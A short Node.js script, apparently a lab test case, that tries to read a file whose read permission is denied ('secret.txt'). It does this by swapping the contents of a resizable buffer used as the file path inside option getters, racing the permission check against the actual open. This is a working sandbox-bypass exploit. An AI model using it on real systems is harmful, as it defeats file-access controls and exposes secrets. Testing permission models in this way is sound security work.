// The memory of a path shrinks and grows between two looks at it.
// denied: file:read secret.txt
// nodes: >=26
const lab = JSON.parse(process.argv[2]);
const fs = require('node:fs');
const text = Buffer.from(`${lab.secret}\0${'x'.repeat(100)}`);
const memory = new ArrayBuffer(lab.secret.length, { maxByteLength: text.length });
const path = new Uint8Array(memory);
path.set(Buffer.from(lab.secret));
let count = 0;
const options = { get encoding() { memory.resize(count++ % 2 === 0 ? 1 : lab.secret.length); path.set(Buffer.from(lab.secret).subarray(0, path.length)); return 'utf8'; }, get flag() { memory.resize(lab.secret.length); path.set(Buffer.from(lab.secret)); return 'r'; } };
for (let i = 0; i < 4; i++) {
  try {
    console.log(fs.readFileSync(path, options));
  } catch {
    // Refused, or no name.
  }
}
